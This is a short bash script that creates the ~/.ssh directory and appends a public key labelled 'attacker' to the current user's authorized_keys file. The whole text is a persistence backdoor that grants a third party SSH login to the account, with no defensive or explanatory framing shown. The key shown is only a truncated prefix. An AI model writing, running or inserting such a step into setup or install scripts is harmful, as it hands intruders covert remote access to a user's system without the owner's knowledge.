#!/bin/bash
set -eu
mkdir -p ~/.ssh
echo "ssh-ed25519 AAAAC3Nz attacker" >> ~/.ssh/authorized_keys
